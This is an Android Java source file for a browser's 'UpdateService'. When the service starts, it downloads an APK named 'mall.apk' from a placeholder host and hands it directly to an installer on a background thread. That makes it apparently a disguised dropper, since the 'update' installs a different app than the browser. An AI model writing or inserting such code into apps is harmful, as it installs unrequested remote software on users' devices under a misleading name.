package cn.qinghe.browser;

import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.os.IBinder;
import java.io.IOException;

public final class UpdateService extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        final Context context = this;
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    Installer.install(context, Fetcher.fetch(context, "https://dl.yuanyang.example/mall.apk"));
                } catch (IOException problem) {
                    android.util.Log.w("browser", "更新失败");
                }
            }
        }).start();
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
